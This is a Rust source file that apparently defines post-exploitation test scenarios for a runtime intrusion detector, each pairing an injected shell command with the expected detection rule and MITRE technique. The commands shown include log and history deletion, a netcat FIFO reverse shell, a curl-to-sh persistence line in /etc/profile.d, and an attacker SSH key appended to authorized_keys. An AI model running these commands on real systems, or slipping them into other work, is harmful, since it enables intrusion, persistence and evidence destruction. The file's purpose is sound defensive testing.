//! The post-exploitation rows of the attack scenario table (see scenarios.rs for the types): what an
//! attacker does once in (issue 13, item 8), each arriving through the vulnerable endpoint as typed
//! by a person in a hurry. Rows needing root or a writable root file system say so; the others run as
//! `--user 65534` and on a read-only root too (the exec is what is judged, not whether it succeeded).

use super::rows::EXEC;
use super::{Arrival, Needs, Runs, Scenario, Tool};

pub const POST_ROWS: &[Scenario] = &[
    Scenario {
        name: "exec-from-temp-dir",
        arrival: Arrival::Dropped {
            tool: Tool::True("svc-update"),
            at: "/var/tmp/svc-update",
            run: "{at} --check",
        },
        category: "Execution: Program Run from Temporary Directory",
        severity: "MEDIUM",
        rule: "exec_from_temp_dir",
        technique: "T1204",
        fields: &[
            ("/processes/0/binary/path", "=/var/tmp/svc-update"),
            ("/processes/0/args", "=/var/tmp/svc-update --check"),
        ],
        needs: Needs::ExecFromTmp,
        runs: EXEC,
    },
    Scenario {
        // Through its `#!` line: the kernel runs /bin/sh with the script's path.
        name: "script-from-temp-dir",
        arrival: Arrival::Injection(
            "printf '#!/bin/sh\\necho staged\\n' > /tmp/.st.sh && chmod +x /tmp/.st.sh && /tmp/.st.sh",
        ),
        category: "Execution: Program Run from Temporary Directory",
        severity: "MEDIUM",
        rule: "script_from_temp_dir",
        technique: "T1059",
        fields: &[("/processes/0/script/path", "=/tmp/.st.sh")],
        needs: Needs::ExecFromTmp,
        runs: EXEC,
    },
    Scenario {
        // The library need not exist: the variable on the exec is the finding (the loader complains).
        name: "ld-preload-from-temp-dir",
        arrival: Arrival::Injection("LD_PRELOAD=/tmp/.l.so id -un"),
        category: "Defense Evasion: Dynamic Linker Hijacking",
        severity: "HIGH",
        rule: "ld_preload_from_temp_dir",
        technique: "T1574.006",
        fields: &[("/processes/0/args", "=id -un"), ("/processes/0/envVariables", "/tmp/.l.so")],
        needs: Needs::Nothing,
        runs: EXEC,
    },
    Scenario {
        name: "history-cleared",
        arrival: Arrival::Injection("rm -f /root/.bash_history"),
        category: "Defense Evasion: Clear Command History",
        severity: "MEDIUM",
        rule: "shell_history_cleared",
        technique: "T1070.003",
        fields: &[("/processes/0/args", "=rm -f /root/.bash_history")],
        needs: Needs::Nothing,
        runs: EXEC,
    },
    Scenario {
        name: "logs-removed",
        arrival: Arrival::Injection("rm -f /var/log/dpkg.log"),
        category: "Defense Evasion: Clear Linux Logs",
        severity: "MEDIUM",
        rule: "log_files_removed",
        technique: "T1070.002",
        fields: &[("/processes/0/args", "=rm -f /var/log/dpkg.log")],
        needs: Needs::Nothing,
        runs: EXEC,
    },
    Scenario {
        name: "setuid-bit",
        arrival: Arrival::Injection("cp /bin/true /tmp/.su && chmod u+s /tmp/.su"),
        category: "Privilege Escalation: Setuid or Setgid Bit Set",
        severity: "MEDIUM",
        rule: "setuid_bit_set",
        technique: "T1548.001",
        fields: &[("/processes/0/args", "=chmod u+s /tmp/.su")],
        needs: Needs::Nothing,
        runs: EXEC,
    },
    Scenario {
        name: "timestomp",
        arrival: Arrival::Injection("touch /tmp/.ts && touch -r /etc/hostname /tmp/.ts"),
        category: "Defense Evasion: Timestomp",
        severity: "LOW",
        rule: "timestomp",
        technique: "T1070.006",
        fields: &[("/processes/0/args", "=touch -r /etc/hostname /tmp/.ts")],
        needs: Needs::Nothing,
        runs: EXEC,
    },
    Scenario {
        name: "proc-memory-read",
        arrival: Arrival::Injection("dd if=/proc/self/mem bs=1 count=1 2>/dev/null"),
        category: "Credential Access: Process Memory Dump",
        severity: "HIGH",
        rule: "proc_memory_read",
        technique: "T1003.007",
        fields: &[("/processes/0/args", "=dd if=/proc/self/mem bs=1 count=1")],
        needs: Needs::Nothing,
        runs: EXEC,
    },
    Scenario {
        // awk's system() runs `sh -c`: a shell whose parent is a program known for shell escapes.
        name: "shell-escape-from-awk",
        arrival: Arrival::Injection("awk 'BEGIN { system(\"id -g\") }'"),
        category: "Unexpected Child Shell",
        severity: "MEDIUM",
        rule: "shell_escape_from_program",
        technique: "T1059.004",
        fields: &[("/processes/0/args", "=sh -c id -g")],
        needs: Needs::Nothing,
        runs: EXEC,
    },
    Scenario {
        // Perl's own base64 (`unpack "m"`, no module needed) handed to system().
        name: "base64-perl-one-liner",
        arrival: Arrival::Injection("perl -e 'system(unpack(\"m\",\"aWQgLXU=\"))'"),
        category: "Defense Evasion: Base64 Encoded Script Executed",
        severity: "MEDIUM",
        rule: "base64_script_executed",
        technique: "T1027",
        fields: &[("/processes/0/args", "unpack")],
        needs: Needs::Nothing,
        runs: EXEC,
    },
    // Data-flow rules without the command line to lean on (issue 13, item 7): a pipeline typed into
    // a reverse shell, one made by Python's subprocess, and a netcat relay through a renamed nc.
    Scenario {
        name: "decode-pipeline-typed",
        arrival: Arrival::ReverseShell("echo ZWNobyBzdGFnZWQK | base64 -d | sh"),
        category: "Command and Control: Piped Encoded Code Execution Detected",
        severity: "HIGH",
        rule: "piped_encoded_code_execution",
        technique: "T1140",
        fields: &[("/ancestors/0/args", "=bash -i")],
        needs: Needs::Nothing,
        runs: EXEC,
    },
    Scenario {
        name: "decode-pipeline-python",
        arrival: Arrival::Injection(
            "python3 -c \"import subprocess as s;a=s.Popen(['base64','-d'],stdin=s.PIPE,stdout=s.PIPE);b=s.Popen(['sh'],stdin=a.stdout);a.stdout.close();a.stdin.write(b'ZWNobyBzdGFnZWQK');a.stdin.close();b.wait()\"",
        ),
        category: "Command and Control: Piped Encoded Code Execution Detected",
        severity: "HIGH",
        rule: "piped_encoded_code_execution",
        technique: "T1140",
        fields: &[("/ancestors/0/args", "python3 -c import subprocess")],
        needs: Needs::Nothing,
        runs: EXEC,
    },
    Scenario {
        // nc copied under another name: still nc by its content (the image baseline's digest).
        name: "netcat-relay-renamed",
        arrival: Arrival::Connect {
            inject: "cp \"$(command -v nc.openbsd)\" /var/tmp/.u && rm -f /tmp/.h && mkfifo /tmp/.h && cat /tmp/.h | sh -i 2>&1 | /var/tmp/.u {gw} {lport} > /tmp/.h",
            typed: "id",
            port: 0,
        },
        category: "Reverse Shell",
        severity: "CRITICAL",
        rule: "reverse_shell_netcat_pipeline",
        technique: "T1059.004",
        fields: &[("/description", "/var/tmp/.u {gw} {lport}")],
        needs: Needs::ExecFromTmp,
        runs: Runs::NotInGvisor(
            "`runsc do` runs the host's root file system, which has no image baseline to know the copy by \
             (tests/evasions.rs covers renamed copies on the host with a baseline under both sensors)",
        ),
    },
    Scenario {
        // su as root reads /etc/shadow through PAM (pam_unix's account check): LOW, whether the watcher
        // finds su holding it or only su started in the second before (the sleep keeps the injected
        // shell's own exec out of that second).
        name: "pam-shadow-read",
        arrival: Arrival::Injection("sleep 1.5; su -s /bin/true nobody"),
        category: "Credential Access: Access Sensitive Files On Nodes",
        severity: "LOW",
        rule: "file_sensitive_file_opened_by_auth_program",
        technique: "T1003.008",
        fields: &[("/files/0/path", "=/etc/shadow")],
        needs: Needs::Root,
        runs: EXEC,
    },
    // The file watcher's persistence rows (root: the files are root's).
    Scenario {
        name: "shell-profile-d",
        arrival: Arrival::Injection(
            "echo 'curl -fsS {web}/f/p.b64 | base64 -d | sh' > /etc/profile.d/zz-sync.sh",
        ),
        category: "Persistence: Modify Shell Configuration",
        severity: "MEDIUM",
        rule: "file_shell_profile_modified",
        technique: "T1546.004",
        fields: &[("/files/0/path", "=/etc/profile.d/zz-sync.sh")],
        needs: Needs::RootWritable,
        runs: EXEC,
    },
    Scenario {
        name: "root-bashrc",
        arrival: Arrival::Injection("echo 'nohup /tmp/.x >/dev/null 2>&1 &' >> /root/.bashrc"),
        category: "Persistence: Modify Shell Configuration",
        severity: "MEDIUM",
        rule: "file_shell_profile_modified",
        technique: "T1546.004",
        fields: &[("/files/0/path", "=/root/.bashrc")],
        needs: Needs::RootWritable,
        runs: EXEC,
    },
    Scenario {
        // The image has no /root/.ssh: the directory and the key arrive in one breath.
        name: "authorized-keys",
        arrival: Arrival::Injection(
            "mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAAC3NzaEVIL attacker' >> /root/.ssh/authorized_keys",
        ),
        category: "Persistence: SSH Authorized Keys Modified",
        severity: "HIGH",
        rule: "file_authorized_keys_modified",
        technique: "T1098.004",
        fields: &[("/files/0/path", "=/root/.ssh/authorized_keys")],
        needs: Needs::RootWritable,
        runs: EXEC,
    },
];
